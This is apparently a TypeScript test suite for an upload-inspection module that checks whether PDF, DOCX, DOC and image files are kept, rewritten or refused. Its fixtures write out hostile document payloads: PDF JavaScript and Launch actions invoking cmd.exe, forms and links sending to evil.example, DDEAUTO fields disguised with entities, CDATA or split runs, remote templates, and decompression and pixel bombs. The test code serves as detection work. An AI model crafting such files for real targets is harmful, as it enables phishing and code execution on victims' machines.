import { randomBytes } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { PDFName, PDFString } from '@cantoo/pdf-lib'
import sharp from 'sharp'
import type { FileKind } from '../src/modules/records/inspection/file-kind.js'
import { inspectFile } from '../src/modules/records/inspection/inspect-file.js'
import {
  docxParts,
  relation,
  relations,
  writeCompressedPdf,
  writeDoc,
  writeDocx,
  writeGif,
  writeLargePng,
  writePdf,
  writePhotograph,
  writePixelBomb,
  writePng,
  writeZip,
} from './support/files.js'
import { judge, quickly } from './support/inspection.js'

/** As the process of the inspection tells it. */
const judgeRefusal = async (kind: FileKind, bytes: Buffer): Promise<string> => {
  const [refusal = ''] = (await judge(kind, bytes)).split(': ')
  return refusal === 'unreadable' ? 'damaged' : refusal
}

describe('a sound file', () => {
  it.each<[string, FileKind, () => Buffer | Promise<Buffer>, string]>([
    ['PDF', 'pdf', () => writePdf(), 'kept'],
    ['PDF with object streams', 'pdf', () => writeCompressedPdf(), 'kept'],
    [
      'PDF with a link',
      'pdf',
      () =>
        writePdf({
          objects: ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://a.example) >> >>'],
        }),
      'kept',
    ],
    ['DOCX', 'docx', () => writeDocx(), 'kept'],
    [
      'DOCX with a link',
      'docx',
      () =>
        writeDocx([], {
          links: relations(relation('hyperlink', 'https://a.example/x?y=1&amp;z', 'External')),
        }),
      'kept',
    ],
    ['DOC', 'doc', () => writeDoc(), 'kept'],
    ['JPEG', 'jpeg', () => writePhotograph(), 'rewritten'],
    ['PNG', 'png', () => writePng(), 'rewritten'],
    ['GIF', 'gif', () => writeGif(), 'rewritten'],
  ])('is taken: %s', async (_what, kind, make, expected) => {
    expect(await judge(kind, await make())).toBe(expected)
  })
})

describe('a file that is something else', () => {
  it.each<[string, FileKind, () => Buffer | Promise<Buffer>]>([
    ['a program as PDF', 'pdf', () => Buffer.from('MZ\x90\0\x03\0\0\0\x04\0\0\0')],
    ['a program as DOC', 'doc', () => Buffer.from('\x7fELF\x02\x01\x01')],
    ['HTML as JPEG', 'jpeg', () => Buffer.from('<!DOCTYPE html><script>alert(1)</script>')],
    ['SVG as PNG', 'png', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ['a PNG as JPEG', 'jpeg', () => writePng()],
    ['a PDF as PNG', 'png', () => writePdf()],
    ['nothing', 'pdf', () => Buffer.alloc(0)],
    ['a zip as DOCX', 'docx', () => writeZip([{ name: 'a.txt', content: 'a' }])],
    [
      'a workbook as DOCX',
      'docx',
      () =>
        writeZip(
          docxParts().map((part) => ({
            ...part,
            content: String(part.content).replace(
              'wordprocessingml.document.main',
              'spreadsheetml.sheet.main',
            ),
          })),
        ),
    ],
    ['another compound file as DOC', 'doc', () => writeDoc().fill(0, 512 * 3)],
  ])('is refused: %s', async (_what, kind, make) => {
    expect(await judge(kind, await make())).toMatch(/^(?!kept|rewritten)/)
  })
})

describe('a PDF', () => {
  const js = '<< /S /JavaScript /JS (app.alert(1)) >>'
  it.each<[string, Parameters<typeof writePdf>[0]]>([
    ['a script when opened', { catalog: `/OpenAction ${js}` }],
    ['a script in an object', { objects: [js] }],
    ['a script under an escaped name', { objects: ['<< /S /Java#53cript /#4aS (x) >>'] }],
    ['a script without its type', { objects: ['<< /S 5 0 R /JS (x) >>'] }],
    ['a script in a tree of names', { catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>' }],
    ['a program to start', { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }],
    ['a program to start, named elsewhere', { objects: ['<< /S 5 0 R /F (x) >>', '/Launch'] }],
    ['an embedded file', { catalog: '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>' }],
    ['an attached file', { objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>'] }],
    ['media', { objects: ['<< /Type /Annot /Subtype /RichMedia >>'] }],
    ['a film', { objects: ['<< /Type /Annot /Subtype /Screen >>'] }],
    ['an XFA form', { catalog: '/AcroForm << /XFA (x) >>' }],
    ['a form that sends itself', { objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] }],
    ['encryption', { trailer: '/Encrypt << /Filter /Standard /V 1 >>' }],
    ['an object nested without end', { objects: ['['.repeat(300) + ']'.repeat(300)] }],
  ])('is refused with %s', async (_what, parts) => {
    expect(await judge('pdf', writePdf(parts))).toMatch(/^(active|encrypted|complex): /)
  })

  it.each<[string, (document: Parameters<NonNullable<Parameters<typeof writeCompressedPdf>[0]>>[0]) => void]>(
    [
      [
        'a script',
        (d) =>
          d.catalog.set(
            PDFName.of('OpenAction'),
            d.context.register(d.context.obj({ S: 'JavaScript', JS: PDFString.of('x') })),
          ),
      ],
      ['a program to start', (d) => d.context.register(d.context.obj({ S: 'Launch', F: PDFString.of('x') }))],
      ['an attached file', (d) => d.context.register(d.context.obj({ Type: 'Filespec', EF: {} }))],
    ],
  )('is refused with %s inside an object stream', async (_what, change) => {
    const bytes = await writeCompressedPdf(change)
    expect(bytes.toString('latin1')).not.toMatch(/JavaScript|Launch|Filespec/)
    expect(await judge('pdf', bytes)).toMatch(/^active: /)
  })

  it('is refused with a script that a later object of the same number hides', async () => {
    const text = writePdf({ objects: ['<< /JS (x) >>'] }).toString('latin1')
    const later = text.replace('xref\n', '4 0 obj\n<< /A 1 >>\nendobj\nxref\n')
    expect(await judge('pdf', Buffer.from(later, 'latin1'))).toMatch(/^active: a key/)
  })

  it.each([
    ['before it', (bytes: Buffer) => Buffer.concat([Buffer.from('<html>'), bytes])],
    ['behind it', (bytes: Buffer) => Buffer.concat([bytes, Buffer.from('<script>alert(1)</script>')])],
    ['as a zip behind it', (bytes: Buffer) => Buffer.concat([bytes, writeDocx(), Buffer.from('%%EOF')])],
    ['instead of its end', (bytes: Buffer) => bytes.subarray(0, -20)],
  ])('is refused with something %s', async (_what, change) => {
    expect(await judge('pdf', change(writePdf()))).toMatch(/^(?!kept|rewritten)/)
  })

  const shared = (action: number) => `<< /S /GoTo /Next [${action + 1} 0 R ${action + 1} 0 R] >>`
  it.each<[string, Buffer, RegExp]>([
    [
      'opening actions that share the next one',
      writePdf({
        catalog: '/OpenAction 4 0 R',
        objects: [...Array.from({ length: 22 }, (_, index) => shared(4 + index)), '<< /S /GoTo >>'],
      }),
      /^kept/,
    ],
    [
      'one object many times',
      Buffer.from(
        writePdf()
          .toString('latin1')
          .replace('xref', `${'4 0 obj\nnull\nendobj\n'.repeat(30_000)}xref`),
      ),
      /^complex: an object too often/,
    ],
  ])('is read in under a second with %s', async (_what, bytes, verdict) => {
    expect(await quickly(() => judge('pdf', bytes))).toMatch(verdict)
  })

  it('finds a script behind actions that are shared', async () => {
    const objects = [shared(4), '<< /S /GoTo /Next [6 0 R] >>', '<< /S /URI /URI (https://clinic.example) >>']
    expect(await judge('pdf', writePdf({ catalog: '/OpenAction 4 0 R', objects }))).toBe(
      'active: an action at the opening',
    )
  })
})

/** The attacks on PDF readers that a search for names does not see. */
describe('a PDF with active content in disguise', () => {
  it.each<[string, string]>([
    ['without its type', '/N 1 /First 4'],
    ['with a wrong type', '/Type /XObject /N 1 /First 4'],
    ['whose type stands elsewhere', '/Type 9 0 R /N 1 /First 4'],
    ['whose numbers stand elsewhere', '/N 5 0 R /First 6 0 R'],
  ])('is refused with a script in an object stream %s', async (_what, entries) => {
    const content = deflateSync(Buffer.from('9 0 << /S /JavaScript /JS (app.alert(1)) >>'))
    const stream = `<< ${entries} /Filter /FlateDecode /Length ${content.length} >>\nstream\n${content.toString('latin1')}\nendstream`
    const bytes = writePdf({ objects: [stream, '1', '4'] })
    expect(bytes.toString('latin1')).not.toContain('JavaScript')
    expect(await judge('pdf', bytes)).toMatch(/^active: /)
  })

  it('is refused with an object stream that cannot be read', async () => {
    const stream = '<< /N 1 /First 4 /Filter /DCTDecode /Length 4 >>\nstream\nabcd\nendstream'
    expect(await judge('pdf', writePdf({ objects: [stream] }))).toBe('active: objects that cannot be read')
  })

  const uri = '<< /S /URI /URI (https://evil.example) >>'
  it.each<[string, Parameters<typeof writePdf>[0]]>([
    ['a web page at the opening', { catalog: `/OpenAction ${uri}` }],
    ['a web page at the opening, by reference', { catalog: '/OpenAction 4 0 R', objects: [uri] }],
    [
      'a web page at the opening, hidden by a later object of the same number',
      { catalog: '/OpenAction 4 0 R', objects: [`${uri}\nendobj\n4 0 obj\n[3 0 R /Fit]`] },
    ],
    ['a web page after a move', { catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${uri}] >>` }],
    ['an action of the document', { catalog: `/AA << /WC ${uri} >>` }],
    ['an action of a page', { objects: [`<< /Type /Page /Parent 2 0 R /AA << /O ${uri} >> >>`] }],
    [
      'an action of an annotation, by reference',
      { objects: ['<< /Subtype /Widget /AA 5 0 R >>', `<< /E ${uri} >>`] },
    ],
    [
      'a document on a share',
      { objects: ['<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>'] },
    ],
    ['a link to a share', { objects: ['<< /S /URI /URI (file://evil.example/a) >>'] }],
    ['a link that runs a script', { objects: ['<< /S /URI /URI (javascript:alert\\(1\\)) >>'] }],
    ['a base address on a share', { catalog: '/URI << /Base (file://evil.example/) >>' }],
    [
      'a stream in another file',
      { objects: ['<< /F (\\\\\\\\evil.example\\\\a) /Length 0 >>\nstream\n\nendstream'] },
    ],
    [
      'a page of another file',
      {
        objects: [
          '<< /Subtype /Form /Ref << /F (http://evil.example/a.pdf) /Page 0 >> /Length 0 >>\nstream\n\nendstream',
        ],
      },
    ],
    ['a file by its address', { objects: ['<< /Type /Filespec /FS /URL /F (http://evil.example/a) >>'] }],
    ['a portfolio', { catalog: '/Collection << /View /D >>' }],
  ])('is refused with %s', async (_what, parts) => {
    expect(await judge('pdf', writePdf(parts))).toMatch(/^active: /)
  })

  it.each<[string, Parameters<typeof writePdf>[0]]>([
    ['a destination at the opening', { catalog: '/OpenAction [3 0 R /Fit]' }],
    ['a move at the opening', { catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' }],
    ['printing at the opening', { catalog: '/OpenAction << /S /Named /N /Print >>' }],
    ['a link to a mail address', { objects: ['<< /S /URI /URI (mailto:clinic@a.example) >>'] }],
    ['a link without a scheme', { objects: ['<< /S /URI /URI (www.clinic.example/results) >>'] }],
    ['a colour profile', { objects: ['<< /N 3 /Length 1 >>\nstream\na\nendstream'] }],
  ])('is accepted with %s', async (_what, parts) => {
    expect(await judge('pdf', writePdf(parts))).toBe('kept')
  })
})

describe('a refused file says why', () => {
  it.each<[string, FileKind, () => Buffer | Promise<Buffer>, string]>([
    ['a PDF without its end', 'pdf', () => writePdf().subarray(0, -20), 'damaged'],
    ['a PDF without its beginning', 'pdf', () => writePdf().subarray(6), 'damaged'],
    ['an empty file', 'pdf', () => Buffer.alloc(0), 'damaged'],
    ['half a DOCX', 'docx', () => writeDocx().subarray(0, 300), 'damaged'],
    ['a PDF with a password', 'pdf', () => writePdf({ trailer: '/Encrypt << /V 1 >>' }), 'encrypted'],
    ['a DOC with a password', 'doc', () => writeDoc({}, { flags: 0x0100 }), 'encrypted'],
    [
      'a DOCX with a password',
      'docx',
      () => writeDoc({ '/EncryptedPackage': Buffer.from('x') }),
      'encrypted',
    ],
    ['a PDF with a script', 'pdf', () => writePdf({ objects: ['<< /JS (x) >>'] }), 'active'],
    ['a picture of too many pixels', 'png', () => writePixelBomb(60_000, 2_000), 'complex'],
    ['a picture as PDF', 'pdf', () => writePng(), 'type'],
    ['a web page as PDF', 'pdf', () => Buffer.from('<!DOCTYPE html>'), 'type'],
  ])('%s', async (_what, kind, make, refusal) => {
    expect(await judgeRefusal(kind, await make())).toBe(refusal)
  })
})

describe('a DOCX', () => {
  it.each<[string, Buffer]>([
    ['macros', writeDocx([{ name: 'word/vbaProject.bin', content: 'x' }])],
    [
      'macros under another name',
      writeDocx([], {
        types: '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
      }),
    ],
    ['a control', writeDocx([{ name: 'word/activeX/activeX1.xml', content: '<a/>' }])],
    ['an embedded object', writeDocx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }])],
    ['a part of another format', writeDocx([{ name: 'word/afchunk.mht', content: 'x' }])],
    [
      'a template from elsewhere',
      writeDocx([
        {
          name: 'word/_rels/settings.xml.rels',
          content: relations(relation('attachedTemplate', 'https://evil.example/a.dotm', 'External')),
        },
      ]),
    ],
    [
      'a picture from elsewhere',
      writeDocx([], { links: relations(relation('image', 'https://evil.example/a.png', 'External')) }),
    ],
    [
      'a relation whose mode is spelt in entities',
      writeDocx([], { links: relations(relation('image', 'https://evil.example', '&#69;xternal')) }),
    ],
    [
      'a relation under a prefix',
      writeDocx([], {
        links: relations(relation('frame', 'https://evil.example', 'External').replace('<R', '<r:R')),
      }),
    ],
    [
      'a link that runs a script',
      writeDocx([], { links: relations(relation('hyperlink', 'javascript:alert(1)', 'External')) }),
    ],
    [
      'a link to a share',
      writeDocx([], { links: relations(relation('hyperlink', '\\\\evil.example\\share', 'External')) }),
    ],
    [
      'a field that starts a program',
      writeDocx([], {
        body: '<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd</w:instrText></w:r>',
      }),
    ],
    ['entities of its own', writeDocx([], { links: `<!DOCTYPE x [<!ENTITY e "External">]>${relations()}` })],
    [
      'relations in another encoding',
      writeDocx([], { links: '' }).length
        ? writeZip([
            ...docxParts().slice(0, 3),
            { name: 'word/_rels/document.xml.rels', content: Buffer.from(relations(), 'utf16le') },
          ])
        : Buffer.alloc(0),
    ],
    ['a part twice', writeDocx([{ name: 'word/document.xml', content: '<w:document/>' }])],
    ['a part outside', writeDocx([{ name: '../../evil.xml', content: '<a/>' }])],
    ['something before it', Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(200), writeDocx()])],
    ['something behind it', Buffer.concat([writeDocx(), Buffer.from('<script>')])],
  ])('is refused with %s', async (_what, bytes) => {
    expect(await judge('docx', bytes)).toMatch(/^(?!kept|rewritten)/)
  })

  it.each<[string, () => Buffer]>([
    [
      'a part that expands a thousand times',
      () => writeDocx([{ name: 'word/a.xml', content: Buffer.alloc(50_000_000) }]),
    ],
    [
      'a size that is not true',
      () =>
        writeZip([...docxParts(), { name: 'word/a.dat', content: Buffer.alloc(50_000_000) }], {
          claim: (size) => Math.min(size, 1_000),
        }),
    ],
  ])('is refused in under a second with %s', async (_what, make) => {
    const bytes = make()
    expect(await quickly(() => judge('docx', bytes))).toMatch(/^(?!kept|rewritten)/)
  })
})

/** The attacks on Word readers that a pattern over the text of known parts does not see. */
describe('a DOCX with active content in disguise', () => {
  const field = (code: string) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`
  const whole = (code: string) =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${field(code)}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
  const other = 'xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
  const strict = 'xmlns:q="http://purl.oclc.org/ooxml/wordprocessingml/main"'
  it.each<[string, Parameters<typeof docxParts>[0]]>([
    ['DDEAUTO spelt in entities', { body: whole('&#68;&#x44;EAUTO c:\\cmd.exe') }],
    ['DDEAUTO in CDATA', { body: whole('<![CDATA[DDE]]>AUTO c:\\cmd.exe') }],
    ['DDE split by a comment', { body: whole('D<!-- -->DE c:\\cmd.exe') }],
    ['DDEAUTO split over runs', { body: whole(`DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd.exe`) }],
    [
      'DDEAUTO under another prefix',
      { body: `<q:p ${other}><q:r><q:instrText>DDEAUTO c:\\cmd</q:instrText></q:r></q:p>` },
    ],
    [
      'DDEAUTO in the strict namespace',
      { body: `<q:p ${strict}><q:r><q:instrText>DDEAUTO x</q:instrText></q:r></q:p>` },
    ],
    [
      'DDE in a simple field under another prefix',
      { body: `<q:fldSimple ${other} q:instr="&#68;DE c:\\cmd"/>` },
    ],
    [
      'DDEAUTO in a main part with another name',
      { main: 'content/letter.xml', body: whole('DDEAUTO c:\\cmd') },
    ],
    [
      'DDEAUTO in a main part without the usual ending',
      { main: 'word/document.dat', body: whole('DDEAUTO c:\\cmd') },
    ],
    [
      'a field whose name another field computes',
      {
        body: `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${field('DD')}<w:r><w:fldChar w:fldCharType="begin"/></w:r>${field('QUOTE 69')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      },
    ],
    ['INCLUDEPICTURE by http', { body: whole('INCLUDEPICTURE "http://evil.example/a.png" \\d') }],
    ['INCLUDEPICTURE from a share', { body: whole('INCLUDEPICTURE "\\\\evil.example\\share\\a.png"') }],
    ['INCLUDETEXT', { body: whole('INCLUDETEXT "https://evil.example/a.docx"') }],
    ['IMPORT', { body: whole('IMPORT a.png') }],
    ['LINK', { body: whole('LINK Excel.Sheet.8 "\\\\evil.example\\a.xlsx"') }],
    [
      'a VML picture by http',
      { body: '<w:pict><v:shape><v:imagedata src="http://evil.example/a.png"/></v:shape></w:pict>' },
    ],
    ['a VML link to a share', { body: '<w:pict><v:shape href="\\\\evil.example\\share"/></w:pict>' }],
    ['an OLE object', { body: '<w:object><o:OLEObject Type="Link" ProgID="Word.Document.8"/></w:object>' }],
    ['a part in another format', { body: '<w:altChunk r:id="x"/>' }],
    [
      'a template from a share',
      { links: relations(relation('attachedTemplate', 'file://evil.example/a.dotm', 'External')) },
    ],
    ['a relationship to an OLE object', { links: relations(relation('oleObject', 'a.dat')) }],
    ['a frame from elsewhere', { links: relations(relation('frame', 'https://evil.example', 'External')) }],
  ])('is refused with %s', async (_what, options) => {
    expect(await judge('docx', writeDocx([], options))).toMatch(/^active: /)
  })

  it.each<[string, Parameters<typeof docxParts>[0]]>([
    [
      'page numbers and a table of contents',
      { body: whole('PAGE \\* MERGEFORMAT') + whole('TOC \\o "1-3" \\h') },
    ],
    ['a link as a field', { body: whole('HYPERLINK "https://clinic.example"') }],
    [
      'the words of a patient',
      { body: '<w:p><w:r><w:t>Please link and import my DDE results</w:t></w:r></w:p>' },
    ],
    [
      'a template on a local drive',
      { links: relations(relation('attachedTemplate', 'file:///C:\\Users\\a\\Letter.dotx', 'External')) },
    ],
    ['a main part with another name', { main: 'content/letter.xml' }],
  ])('is accepted with %s', async (_what, options) => {
    expect(await judge('docx', writeDocx([], options))).toBe('kept')
  })

  it('is read in under a second with many fields in a long one', async () => {
    const mark = (type: string) => `<w:fldChar w:fldCharType="${type}"/>`
    const inner = (mark('begin') + mark('end')).repeat(6_000)
    const code = `<w:instrText>QUOTE ${'x'.repeat(500_000)}</w:instrText>`
    const body = `<w:p>${mark('begin')}${code}${inner}${mark('end')}</w:p>`
    expect(await quickly(() => judge('docx', writeDocx([], { body })))).toBe('kept')
  })
})

describe('a DOC', () => {
  it.each([
    ['macros', writeDoc({ '/Macros/VBA/dir': Buffer.from('x') })],
    ['a package', writeDoc({ '/ObjectPool/_1/\x01Ole10Native': Buffer.from('x') })],
    ['encryption', writeDoc({}, { flags: 0x0100 })],
  ])('is refused with %s', async (_what, bytes) => {
    expect(await judge('doc', bytes)).toMatch(/^(active|encrypted): /)
  })
})

describe('a picture', () => {
  it('is drawn anew: upright, without place, camera or anything behind it', async () => {
    const original = await writePhotograph()
    expect((await sharp(original).metadata()).exif).toBeDefined()
    const polyglot = Buffer.concat([original, writeDocx()])
    const drawn = (await inspectFile('jpeg', polyglot)) as Buffer
    const { exif, icc, iptc, xmp, orientation, width, height } = await sharp(drawn).metadata()
    expect([exif, icc, iptc, xmp, orientation]).toEqual(Array(5).fill(undefined))
    expect([width, height]).toEqual([40, 60])
    expect(drawn.toString('latin1')).not.toMatch(/Exif|secret-camera|word.document/)
  })

  it('keeps the frames of a GIF and the shades of an X-ray', async () => {
    const frames = (await inspectFile('gif', await writeGif(3))) as Buffer
    expect((await sharp(frames, { animated: true }).metadata()).pages).toBe(3)
    const shades = await sharp(
      new Uint16Array(400).map((_, n) => n * 160),
      { raw: { width: 20, height: 20, channels: 1 } },
    )
      .toColourspace('grey16')
      .png()
      .toBuffer()
    expect((await sharp((await inspectFile('png', shades)) as Buffer).metadata()).depth).toBe('ushort')
  })

  it.each([
    [30_000, 30_000],
    [60_000, 2_000],
  ])('is refused in under a second when it says %d by %d pixels', async (width, height) => {
    const bomb = writePixelBomb(width, height)
    expect(await quickly(() => judge('png', bomb))).toMatch(/pixel/)
  })

  it('is refused when it breaks off', async () => {
    const png = await writeLargePng(100_000)
    expect(await judge('png', png.subarray(0, 50_000))).toMatch(/^unreadable: /)
  })
})
